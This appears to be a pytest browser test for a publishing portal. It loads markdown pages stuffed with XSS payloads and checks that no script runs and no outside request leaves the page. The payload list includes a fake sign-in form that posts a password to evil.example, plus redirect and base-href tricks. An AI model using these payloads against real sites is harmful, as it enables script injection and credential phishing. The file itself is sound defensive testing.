"""Hostile content is loaded and opened in Chromium: no script runs, no dialog, nobody else is asked."""

import json
import re
from pathlib import Path

import pytest

from tests.journeys.steps import sign_in

pytestmark = [pytest.mark.browser, pytest.mark.slow]

HOSTILE = Path(__file__).resolve().parents[3] / "shared" / "data" / "hostile"
PER_PAGE = 60
ALERT = "alert(1);window.__seen.ran++"
OURS = [
    f"<script>{ALERT}</script>",
    f"<img src=x onerror='{ALERT}'>",
    f"<svg onload='{ALERT}'><script>{ALERT}</script></svg>",
    f"<svg><animate onbegin='{ALERT}' attributeName=x dur=1s></svg>",
    f"<details open ontoggle='{ALERT}'>x</details>",
    f"<body onload='{ALERT}'>",
    f"<iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](java&#10;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1)) <javascript:alert(1)> [x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1)) ![x](//evil.example/x.png) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    f'![x" onerror="{ALERT}](x.png) ![x](x.png "a\\" onerror=\\"{ALERT}")',
    f"<a href=x onclick='{ALERT}' style='position:fixed;inset:0' autofocus onfocus='{ALERT}' tabindex=1>x</a>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ALERT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'></noscript>",
    "<form action=//evil.example><button>Sign in again</button><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<div id=toasts data-failed=x></div><div id=q></div><a id=attributes name=cookie>clobber</a>",
    "<button data-copy=x data-open=palette data-print>x</button><form data-live action=//evil.example></form>",
    f"<x-tabs><nav class=tabs><a href='#%' onclick='{ALERT}'>x</a></nav></x-tabs>",
    "<blockquote id=say-x data-section=x>fake</blockquote>",
    f"> <img src=x onerror='{ALERT}'> a sentence to copy",
    f"| a<script>{ALERT}</script> | b |\n|---|---|\n| <img src=x onerror='{ALERT}'> | c |",
    f"## <img src=x onerror='{ALERT}'> heading\n\ntext",
    f"```html\n</code></pre><script>{ALERT}</script>\n```",
    f"{{{{ ''.__class__ }}}} {{% raw %}} {{# x #}} ${{{ALERT}}}",
    "\u202egnp.exe \u0000 \ud7ff \ufeff \u2028 \u2029",
]


def shared_payloads():
    """The collected ones, one a line or entry; none where the folder is absent."""
    found = []
    for path in sorted((HOSTILE / "hostile-xss-payloads").glob("*.txt")):
        text = path.read_text("utf-8", errors="replace")
        lines = [line for line in text.splitlines() if "<" in line or "script" in line]
        found += lines[:: 1 + len(lines) // 600]  # of the longest list an even sample
    purify = HOSTILE / "hostile-html-dompurify" / "expect.json"
    if purify.exists():
        found += [case["payload"] for case in json.loads(purify.read_text("utf-8"))]
    return found


def write(folder, name, title, parts):
    body = "\n\n".join(parts).replace("\x00", "")
    title = "".join(c for c in title if c.isprintable())
    text = f"---\ntitle: {json.dumps(title)}\nkind: guide\nstate: published\n---\n\n{body}\n"
    (folder / f"{name}.en.md").write_text(text, "utf-8", errors="replace")
    return name


def load(live, folder):
    status, said, complaints = live.run("content", "load", folder, "--publish", "--json")
    report = json.loads(said)
    assert status in {0, 1}, complaints
    assert "Traceback" not in complaints
    return report


def visit(tab, names):
    """Open each asset; (address → what it did) of those that did anything at all."""
    did = {}
    for name in names:
        tab.complaints.clear()
        tab.dialogs.clear()
        answer = tab.open(f"/assets/{name}")
        assert answer.status == 200, f"{name}: {answer.status}"
        seen = tab.seen()
        ran = [v for v in seen["violations"] if not re.match(r"(img|media)-src", v)]
        errors = [
            c
            for c in tab.complaints
            if c.startswith("error: ") and "img-src" not in c and "404" not in c
        ]
        if tab.dialogs or seen["ran"] or ran or [e for e in errors if "Failed to load" not in e]:
            did[name] = (tab.dialogs, seen["ran"], ran, errors)
    return did


@pytest.fixture
def reader(tab):
    """A signed-in tab that notes every address asked for beyond the portal's own."""
    tab = tab("en")
    tab.elsewhere = []
    sign_in(tab, "tom.reed@tarvel.example", "en")

    def route(route):
        if route.request.url.startswith(tab.base):
            route.continue_()
        else:
            tab.elsewhere.append(route.request.url)
            route.abort()

    tab.page.route("**/*", route)
    return tab


def test_our_own_payloads_do_nothing(live, reader, tmp_path):
    names = [
        write(
            tmp_path,
            f"hostile-{number}",
            f"Hostile {number} {payload[:120]}",
            [payload, "> Say this."],
        )
        for number, payload in enumerate(OURS)
    ]
    report = load(live, tmp_path)
    assert report["rejected"] == []
    assert visit(reader, names) == {}
    # the navigation, the search box and the copy buttons are still the portal's
    assert reader.page.locator("#q").get_attribute("name") == "q"
    for address in ("/?q=hostile", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/insights/usage"):
        reader.open(address)
        assert reader.dialogs == []
        assert reader.seen()["ran"] == 0
    assert reader.elsewhere == []


def test_collected_payloads_do_nothing(live, reader, tmp_path):
    payloads = shared_payloads()
    if not payloads:
        pytest.skip("no ../shared/data/hostile: the collected payloads are not there")
    groups = [payloads[at : at + PER_PAGE] for at in range(0, len(payloads), PER_PAGE)]
    names = [
        write(tmp_path, f"collected-{number}", f"Collected {number}", group)
        for number, group in enumerate(groups)
    ]
    report = load(live, tmp_path)
    assert report["rejected"] == []
    assert visit(reader, names) == {}
    assert [url for url in reader.elsewhere if not url.startswith("https://")] == []


def test_a_script_that_ran_would_be_noticed(reader):
    reader.open("/account")
    reader.page.evaluate(ALERT)
    assert reader.dialogs
    assert reader.seen()["ran"] == 1


def test_odd_files_are_told_apart_and_nothing_breaks(live, tmp_path):
    (tmp_path / "latin.md").write_bytes("# Giá\n\ncaf\u00e9".encode("latin-1", errors="replace"))
    (tmp_path / "broken.md").write_text("---\ntitle: [unclosed\n---\n\ntext\n", "utf-8")
    (tmp_path / "huge.md").write_text("# Huge\n\n" + "word " * 2_100_000, "utf-8")
    (tmp_path / "zero.md").write_bytes(b"# Zero\n\na\x00b\n")
    (tmp_path / "good.md").write_text("# Good\n\ntext\n", "utf-8")
    status, said, complaints = live.run("content", "load", tmp_path, "--publish", "--json")
    report = json.loads(said)
    assert status == 1
    assert "Traceback" not in complaints
    assert report["files"] == 5
    rejected = {Path(row["file"]).name: row for row in report["rejected"]}
    assert "good.md" not in rejected
    assert rejected["broken.md"]["line"] in {2, 3}
    assert all(row["reason"] for row in rejected.values())
    assert report["created"] + len(rejected) == 5
